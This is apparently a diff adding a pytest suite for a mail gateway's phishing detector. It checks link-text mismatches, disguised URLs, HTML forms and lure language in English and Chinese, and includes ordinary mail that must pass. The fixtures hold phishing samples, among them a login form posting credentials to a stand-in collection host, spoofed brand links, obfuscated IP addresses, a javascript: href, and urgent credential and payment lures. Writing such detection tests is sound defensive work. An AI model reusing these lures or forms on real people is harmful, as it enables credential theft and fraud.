@@ -1,0 +1,395 @@
+"""The content signals of the phishing analyser: link text against link target, URLs that
+hide their target, forms in mail, and credential / payment / urgency language — each with
+the ordinary mail it must leave alone."""
+
+from __future__ import annotations
+
+from types import SimpleNamespace
+from urllib.parse import quote
+
+import pytest
+import yaml
+
+from trustdesk.mailgateway.analysis.message import Parsed, html_to_text
+from trustdesk.mailgateway.analysis.phishing import content, language, links
+from trustdesk.mailgateway.analysis.phishing.base import Context, MailView
+
+OWN = Context(own_domains=frozenset({"trustdesk.example"}),
+              brands=(("PayPal", ("paypal.com",)), ("Apple", ("apple.com", "icloud.com"))))
+FAILED_DMARC = SimpleNamespace(dmarc=SimpleNamespace(result=SimpleNamespace(result="fail")))
+
+
+def view(text: str = "", html: str = "", *, subject: str = "",
+         sender: str = "ada@customer.example", auth=None) -> MailView:
+    shown = text or (html_to_text(html) if html else "")
+    return MailView(raw=b"", parsed=Parsed(from_address=sender, subject=subject, text=shown),
+                    html=html, text=shown, links=links.extract(html, shown), auth=auth,
+                    findings=())
+
+
+def a(href: str, text: str) -> str:
+    return f'<p>Hello</p><a href="{href}">{text}</a>'
+
+
+def weights(signal, mail: MailView, context: Context = OWN) -> int:
+    reasons = signal().check(mail, context)
+    assert len(reasons) <= 1 and all(r.signal == signal.name for r in reasons)
+    return reasons[0].weight if reasons else 0
+
+
+def safelink(url: str) -> str:
+    return ("https://eur01.safelinks.protection.outlook.com/?url=" + quote(url, safe="")
+            + "&data=05%7C01&reserved=0")
+
+
+# ---------------------------------------------------------------------------------------
+# link_text_mismatch: (link text, href, sender, auth, expected weight)
+MISMATCH = [
+    ("www.shop-a.example", "https://evil.example/login", "x@evil.example", None, 22),
+    ("https://www.shop-a.example/account", "http://198.51.100.7/", "x@evil.example", None, 22),
+    ("www.paypal.com", "https://paypal.com@evil.example/", "x@evil.example", None, 28),
+    ("Log in at PayPal.com", "https://evil.example/", "x@evil.example", None, 28),
+    ("www.trustdesk.example/reset", "https://evil.example/", "x@evil.example", None, 28),
+    ("www.shop-a.example", safelink("https://evil.example/x"), "x@evil.example", None, 22),
+    ("ｗｗｗ.paypal.com", "https://evil.example/", "x@evil.example", None, 28),
+    # The sender's own domain, through a redirect on another organisation's domain.
+    ("www.shop.example", "https://links.shop-mail.example/c/1", "news@shop.example", None, 8),
+    # ... and the sender is not who they claim: a newsletter's excuse no longer holds.
+    ("www.shop.example", "https://shop.us5.list-manage.com/track/click?u=1",
+     "news@shop.example", FAILED_DMARC, 22),
+    # Not mismatches:
+    ("www.shop.example", "https://www.shop.example/", "news@shop.example", None, 0),
+    ("shop.example", "https://click.shop.example/track?id=9", "news@shop.example", None, 0),
+    ("https://www.shop.example/orders", "https://email.shop.example/c/1", "x@other.example",
+     None, 0),
+    ("shop.co.uk", "https://www.shop.co.uk/", "x@other.example", None, 0),
+    ("bücher.example", "https://xn--bcher-kva.example/", "x@other.example", None, 0),
+    ("Click here", "https://evil.example/", "x@evil.example", None, 0),
+    ("Read more", "https://evil.example/", "x@evil.example", None, 0),
+    ("Download invoice.zip", "https://evil.example/", "x@evil.example", None, 0),
+    ("Version 2.0 notes.txt", "https://evil.example/", "x@evil.example", None, 0),
+    ("Node.js guide", "https://nodejs.example/", "x@evil.example", None, 0),
+    ("Write to support@shop.example", "https://help.example/", "x@evil.example", None, 0),
+    ("apple.com", "https://www.icloud.com/", "x@evil.example", None, 0),  # one brand
+    ("www.paypal.com", "https://trustdesk.example/", "x@evil.example", None, 0),  # ours
+    ("www.shop.example", safelink("https://www.shop.example/sale"), "x@x.example", None, 0),
+    # A newsletter: the sender's own domain shown, a mail service's click tracker linked,
+    # or the sender's own tracking domain redirecting back to the sender's site.
+    ("www.shop.example", "https://shop.us5.list-manage.com/track/click?u=1&id=2",
+     "news@shop.example", None, 0),
+    ("www.shop.example", "https://u123.ct.sendgrid.net/ls/click?upn=abc", "news@shop.example",
+     None, 0),
+    ("www.shop.example", "https://t.esp.example/r?url=https%3A%2F%2Fwww.shop.example%2Fa",
+     "news@shop.example", None, 0),
+]
+
+
+@pytest.mark.parametrize(("text", "href", "sender", "auth", "expected"), MISMATCH)
+def test_link_text_mismatch(text, href, sender, auth, expected):
+    mail = view(html=a(href, text), sender=sender, auth=auth)
+    assert weights(content.LinkTextMismatch, mail) == expected
+
+
+def test_mismatch_names_both_domains_defanged_and_counts_the_others():
+    html = "".join(a(f"https://evil{i}.example/", "www.shop-a.example") for i in range(3))
+    (reason,) = content.LinkTextMismatch().check(view(html=html), OWN)
+    assert reason.weight == 22 + 2 * 2
+    assert "www[.]shop-a[.]example" in reason.text and "evil0[.]example" in reason.text
+    assert "2 more links" in reason.text
+
+
+def test_mismatch_never_more_than_the_cap():
+    html = "".join(a(f"https://evil{i}.example/", "www.paypal.com") for i in range(40))
+    assert weights(content.LinkTextMismatch, view(html=html)) == content.CAP
+
+
+# ---------------------------------------------------------------------------------------
+CYRILLIC_PAYPAL = "p\u0430ypal.com".encode("idna").decode()  # "pаypal" with a Cyrillic а
+# suspicious_url: (href, sender, expected weight, words the reason must say or None)
+SUSPICIOUS = [
+    ("http://198.51.100.7/login", "x@x.example", 18, "bare IP address"),
+    ("http://3325256711/login", "x@x.example", 25, "written as a number"),
+    ("http://0xc6.0x33.0x64.0x7/", "x@x.example", 25, "198.51.100.7"),
+    ("http://[2001:db8::1]/", "x@x.example", 18, "bare IP address"),
+    ("https://paypal.com@evil.example/", "x@x.example", 22, "before an @"),
+    ("https://user@evil.example/", "x@x.example", 12, "before an @"),
+    ("https://bit.ly/3abcd", "x@x.example", 10, "shortener bit.ly"),
+    ("https://t.cn/A6abc", "x@x.example", 10, "shortener t.cn"),
+    (safelink("https://tinyurl.com/y4abc"), "x@x.example", 10, "shortener tinyurl.com"),
+    ("https://www.google.com/url?q=https://evil.example/login&sa=D", "x@x.example", 15,
+     "redirects through www.google.com"),
+    ("https://shop-a.example/out?next=https%3A%2F%2Fevil.example%2F", "x@x.example", 15,
+     "redirects"),
+    (f"https://{CYRILLIC_PAYPAL}/signin", "x@x.example", 20, "punycode"),
+    ("https://xn--fsqu00a.xn--fiqs8s/", "x@x.example", 6, "punycode"),
+    ("https://paypal.com.secure-check.example/", "x@x.example", 20, "brand's domain"),
+    ("https://login.com.secure-check.example/", "x@x.example", 12, "another domain name"),
+    ("https://a.b.c.d.evil.example/", "x@x.example", 8, "4 levels"),
+    ("http://shop-a.example:8080/", "x@x.example", 10, "port 8080"),
+    ("javascript:document.location='https://evil.example'", "x@x.example", 25, "script"),
+    ("data:text/html;base64,PGgxPkxvZ2luPC9oMT4=", "x@x.example", 20, "data:"),
+    ("http://198.51.100.7:8080/", "x@x.example", 28, "port 8080"),
+    ("http://paypal.com@3325256711:81/", "x@x.example", 30, None),  # capped
+    # Ordinary links:
+    ("https://www.shop.example/orders/1", "x@x.example", 0, None),
+    ("https://www.shop.example:443/orders/1", "x@x.example", 0, None),
+    ("https://click.shop.example/track?u=https%3A%2F%2Fwww.shop.example%2F", "x@x.example",
+     0, None),
+    ("https://shop.us5.list-manage.com/track/click?u=abc&id=def", "x@x.example", 0, None),
+    ("https://click.esp.example/?url=https://www.shop.example/", "news@shop.example", 0, None),
+    ("https://click.shop.example/?redirect=https://partner.example/", "news@shop.example",
+     0, None),
+    (safelink("https://www.shop.example/sale"), "x@x.example", 0, None),
+    ("https://www.google.com/search?q=trustdesk+help", "x@x.example", 0, None),
+    ("https://docs.example.com/view?id=1&q=https", "x@x.example", 0, None),
+    ("https://s3.us-east-1.amazonaws.com/bucket/file.pdf", "x@x.example", 0, None),
+    ("http://trustdesk.example:8080/", "x@x.example", 0, None),  # the helpdesk's own
+    ("https://例子.中国/", "x@x.example", 6, "punycode"),
+]
+
+
+@pytest.mark.parametrize(("href", "sender", "expected", "words"), SUSPICIOUS)
+def test_suspicious_url(href, sender, expected, words):
+    mail = view(html=a(href, "here"), sender=sender)
+    reasons = content.SuspiciousUrl().check(mail, OWN)
+    assert (reasons[0].weight if reasons else 0) == expected
+    if words:
+        assert words in reasons[0].text
+
+
+def test_suspicious_url_in_plain_text_and_defanged_in_the_reason():
+    (reason,) = content.SuspiciousUrl().check(
+        view("Log in now: http://198.51.100.7/login"), OWN)
+    assert "hxxp://198[.]51[.]100[.]7/login" in reason.text
+    assert "http://198" not in reason.text
+
+
+# ---------------------------------------------------------------------------------------
+LOGIN_FORM = ('<form action="https://collect.evil.example/p" method="post">'
+              '<input type="email" name="email"><input type="password" name="pw">'
+              '<input type="hidden" name="victim" value="ada"><input type="submit"></form>')
+# html_form: (html, sender, expected weight, words)
+FORMS = [
+    (LOGIN_FORM, "x@x.example", 30, "password field"),
+    ('<form><input name="username"><input type="password" name="p"></form>', "x@x.example",
+     28, "user-name or e-mail field"),
+    ('<input type="password" name="p">', "x@x.example", 24, "password field"),
+    ('<form action="https://survey.example/r"><input type="radio" name="q" value="5">'
+     '<input type="submit"></form>', "x@shop.example", 11, "sent to survey[.]example"),
+    ('<form action="https://www.shop.example/r"><input type="radio" name="q">'
+     '<button>Send</button></form>', "news@shop.example", 5, "a form"),
+    ('<form action="/search"><input name="q"><input type=hidden name=t value=1></form>',
+     "x@x.example", 10, "hidden fields"),
+    ('<FORM ACTION="HTTPS://EVIL.EXAMPLE/"><INPUT TYPE=PASSWORD></FORM>', "x@x.example", 30,
+     "evil[.]example"),
+    ('<p>Your password was changed. If this was not you, contact us.</p>', "x@x.example", 0,
+     None),
+    ('<p>Use the <code>&lt;form&gt;</code> tag</p>', "x@x.example", 0, None),
+    ("", "x@x.example", 0, None),
+]
+
+
+@pytest.mark.parametrize(("html", "sender", "expected", "words"), FORMS)
+def test_html_form(html, sender, expected, words):
+    reasons = content.HtmlForm().check(view(html=html, sender=sender), OWN)
+    assert (reasons[0].weight if reasons else 0) == expected
+    if words:
+        assert words in reasons[0].text
+
+
+# ---------------------------------------------------------------------------------------
+# language: (subject, text, categories found)
+FOUND = [
+    ("", "Please verify your account.", {"credential"}),
+    ("", "Ver\u200bify your acc\u200bount now", {"credential"}),  # zero-width inside
+    ("", "ＶＥＲＩＦＹ ＹＯＵＲ ＡＣＣＯＵＮＴ", {"credential"}),  # full-width (NFKC)
+    ("", "Verify\n   your\taccount", {"credential"}),
+    ("", "We noticed unusual sign in activity", {"account_threat"}),
+    ("", "We noticed unusual signin activity", {"account_threat"}),
+    ("", "Your password expires today.", {"account_threat", "urgency"}),
+    ("", "Click here to verify your account", {"action", "credential"}),  # overlapping
+    ("Final notice", "Pay the overdue invoice", {"urgency", "payment"}),
+    ("", "We have changed our bank details; wire the payment to the new bank account.",
+     {"payment"}),
+    ("", "I need you to buy gift cards for a client today.", {"payment"}),
+    ("", "验 证 您 的 账 户", {"credential"}),
+    ("", "我们检测到您的账户异常登录，请立即重新登录。", {"account_threat", "urgency",
+                                                     "credential"}),
+    ("", "您的邮箱容量已满，请点击以下链接升级您的邮箱", {"account_threat", "action",
+                                                       "credential"}),
+    ("", "我司银行账户变更，请汇款至以下新账户", {"payment"}),
+    ("", "密码即将过期，24小时内未更新将被停用", {"account_threat", "urgency"}),
+    # What a customer writes: no request to the reader.
+    ("Password", "Hi, I forgot my password, can you help me reset it?", set()),
+    ("", "I can't log in to my account since yesterday.", set()),
+    ("", "My account has been suspended, why? I need to update my payment details.", set()),
+    ("", "Can you verify my account please?", set()),
+    ("", "I paid the overdue invoice yesterday.", set()),
+    ("", "I made a wire transfer to you yesterday.", set()),
+    ("", "我已经付款了，请查一下订单", set()),
+    ("", "我的账户已被冻结，请帮忙解冻", set()),
+    ("", "重新登录后还是不行", set()),
+    ("", "We will never ask you to confirm your password or verify your account by e-mail.",
+     set()),
+    ("", "我们绝不会要求您确认您的密码", set()),
+    ("", "> Please verify your account\n> by clicking below\nThanks, it worked!", set()),
+    ("", "Do you sell gift cards? Do you accept wire transfers?", set()),
+]
+
+
+@pytest.mark.parametrize(("subject", "text", "categories"), FOUND)
+def test_language_finds(subject, text, categories):
+    found = language.find(language.normalise(f"{subject}\n{language._QUOTED.sub('', text)}"))
+    assert set(found) == categories
+    mail = view(text, subject=subject)
+    assert bool(language.Language().check(mail, OWN)) == bool(categories)
+
+
+# (text, html, expected weight)
+SCORES = [
+    ("Please reply immediately.", "", 3),  # urgency alone is weak
+    ("Click the link below.", "", 3),
+    ("Please verify your account.", "", 10),
+    ("Please confirm your password.", "", 16),
+    ("Please verify your account: https://evil.example/", "", 22),
+    ("Please confirm your password: https://evil.example/", "", 28),
+    ("Confirm your password within 24 hours: https://evil.example/", "", 36),
+    ("Your mailbox will be suspended. Re-enter your credentials within 24 hours at "
+     "https://evil.example/ or lose access to your account.", "", 45),  # capped
+    ("", '<p>Your mailbox is full. Enter your password below.</p><form><input type=password>'
+         '</form>', 45),
+    ("We changed our bank details. Please make the payment today to the new bank account.",
+     "", 14),
+    ("Overdue invoice: wire transfer today, final notice.", "", 21),
+    ("您的账户已被冻结，请点击以下链接重新验证您的身份 https://evil.example/", "", 45),
+]
+
+
+@pytest.mark.parametrize(("text", "html", "expected"), SCORES)
+def test_language_weights(text, html, expected):
+    assert weights(language.Language, view(text, html)) == expected
+
+
+def test_language_explains_in_plain_words():
+    (reason,) = language.Language().check(
+        view("Please confirm your password: https://evil.example/"), OWN)
+    assert "sign in or confirm their account or password" in reason.text
+    assert "\u201cconfirm your password\u201d" in reason.text and "link" in reason.text
+
+
+def test_language_reads_the_subject_and_an_html_part_that_differs_from_the_text():
+    mail = MailView(raw=b"", parsed=Parsed(subject="Action required: verify your account",
+                                           text="Hello"),
+                    html="<p>Your payment was declined. Update your payment details.</p>",
+                    text="Hello", links=(), auth=None, findings=())
+    (reason,) = language.Language().check(mail, OWN)
+    assert "verify your account" in reason.text and "payment" in reason.text
+
+
+def test_phrase_table_is_well_formed():
+    table = language.table()
+    assert {p.category for p in table.phrases} == set(language.WHAT)
+    for category in language.WHAT:
+        mine = [p for p in table.phrases if p.category == category]
+        assert any(language._CJK.search(p.text) for p in mine), f"{category}: no Chinese"
+        assert any(not language._CJK.search(p.text) for p in mine), f"{category}: no English"
+    bare = {"password", "密码", "付款", "汇款", "account", "login", "invoice"}
+    assert not bare & {p.text for p in table.phrases}
+    assert table.cap <= 45 and table.cap_without_link <= 30
+
+
+def test_a_custom_table_combines_as_written():
+    doc = yaml.safe_load("""
+guards: {en: [my], zh: [我]}
+extra: 1
+extra_max: 1
+categories:
+  credential: {weight: 5, en: [open sesame, {say please: 9}], zh: [芝麻开门]}
+  urgency: {weight: 2, en: [hurry], zh: []}
+combinations: [{when: [credential, urgency], bonus: 7}]
+weak_alone: [urgency]
+weak_alone_max: 1
+cap: 20
+cap_without_link: 15
+""")
+    table = language.build(doc)
+    found = language.find(language.normalise("Open  Sesame! Say please, hurry. 芝麻 开门"), table)
+    assert found == {"credential": {"open sesame": 5, "say please": 9, "芝麻开门": 5},
+                     "urgency": {"hurry": 2}}
+    assert language.score(found, has_link=True, t=table) == 9 + 1 + 2 + 7
+    assert language.score(found, has_link=False, t=table) == 15
+    assert language.score({"urgency": {"hurry": 2}}, has_link=True, t=table) == 1
+    assert language.find("my open sesame", table) == {}
+
+
+# ---------------------------------------------------------------------------------------
+# Whole ordinary messages: no content signal may make a case of them.
+RECEIPT = """<html><body><img src="https://img.shop.example/logo.png">
+<p>Thank you for your order #10442. Your payment was received.</p>
+<table><tr><td>Blue mug</td><td>$12.00</td></tr></table>
+<p><a href="https://www.shop.example/orders/10442">View your order</a> or visit
+<a href="https://click.shop.example/track?u=https%3A%2F%2Fwww.shop.example%2Fhelp">
+www.shop.example/help</a>. Track it at
+<a href="https://track.carrier.example/?id=1Z999">the carrier's site</a>.</p>
+<p><a href="https://click.shop.example/ls/click?upn=abc">www.shop.example</a></p>
+</body></html>"""
+NEWSLETTER = """<html><body><h1>Spring sale: today only!</h1>
+<p><a href="https://shop.us5.list-manage.com/track/click?u=a1&id=b2&e=c3">www.shop.example</a>
+<a href="https://shop.us5.list-manage.com/track/click?u=a1&id=b4">Shop now</a>
+<a href="https://click.shop.example/?redirect=https%3A%2F%2Fpartner.example%2Foffer">
+Our partner's offer</a></p>
+<p>We will never ask for your password by e-mail.</p>
+<p><a href="https://shop.us5.list-manage.com/unsubscribe?u=a1&id=b5">Unsubscribe</a> |
+<a href="https://shop.us5.list-manage.com/profile?u=a1">Update your preferences</a></p>
+</body></html>"""
+MAILING_LIST = """On Monday, Bob wrote:
+> Did anyone verify your account settings on the staging box?
+> Click here to see: https://wiki.example.org/staging
+Yes, staging is fine now. See https://github.com/example/project/issues/42 and
+https://lists.example.org/pipermail/dev/2026-December/001234.html
+
+--
+dev mailing list
+dev@lists.example.org
+https://lists.example.org/mailman/listinfo/dev
+"""
+ORDINARY = [
+    ("receipt", "", RECEIPT, "orders@shop.example", "Your order #10442"),
+    ("newsletter", "", NEWSLETTER, "news@shop.example", "Spring sale"),
+    ("mailing list", MAILING_LIST, "", "bob@example.org", "Re: [dev] staging"),
+    ("password question", "Hi, I forgot my password and now I can't log in to my account. "
+     "Can you reset it? My username is ada. Please help immediately, thanks!", "",
+     "ada@customer.example", "Can't log in"),
+    ("pasted URL", "The page https://www.shop.example/account/settings?tab=billing shows "
+     "error 500 when I try to update my payment details. Screenshot: "
+     "https://imgur.com/a/Xy12Ab", "", "ada@customer.example", "Error on your site"),
+    ("paid", "我已经付款了，请查一下订单 10442。付款截图见附件。", "", "wang@customer.example",
+     "订单付款"),
+    ("paid, html", "", "<p>您好，</p><p>我已经付款了，请查一下订单。</p><p>谢谢</p>",
+     "wang@customer.example", "付款"),
+    ("auto-reply", "I am out of the office until Monday 7 December with limited access to "
+     "e-mail. For urgent matters please contact bob@customer.example.", "",
+     "ada@customer.example", "Automatic reply: Your ticket"),
+    ("auto-reply zh", "您好，我目前休假中，12月7日返回。如有紧急事务，请联系王先生。", "",
+     "li@customer.example", "自动回复"),
+    ("verification", "Please confirm your e-mail address by clicking the button below: "
+     "https://app.saas.example/confirm?t=abc", "", "no-reply@saas.example",
+     "Confirm your e-mail address"),
+]
+
+
+@pytest.mark.parametrize(("case", "text", "html", "sender", "subject"), ORDINARY,
+                         ids=[c[0] for c in ORDINARY])
+def test_ordinary_mail_is_left_alone(case, text, html, sender, subject):
+    mail = view(text, html, subject=subject, sender=sender)
+    reasons = [r for s in content.SIGNALS for r in s().check(mail, OWN)]
+    assert [r for r in reasons if r.signal != "language"] == []
+    assert sum(r.weight for r in reasons) <= 3, reasons
+
+
+def test_every_signal_has_its_name_and_survives_an_empty_view():
+    names = {s.name for s in content.SIGNALS}
+    assert names == {"link_text_mismatch", "suspicious_url", "html_form", "language"}
+    empty = MailView(raw=b"", parsed=Parsed(), html="", text="", links=(), auth=None,
+                     findings=())
+    assert all(s().check(empty, Context()) == [] for s in content.SIGNALS)
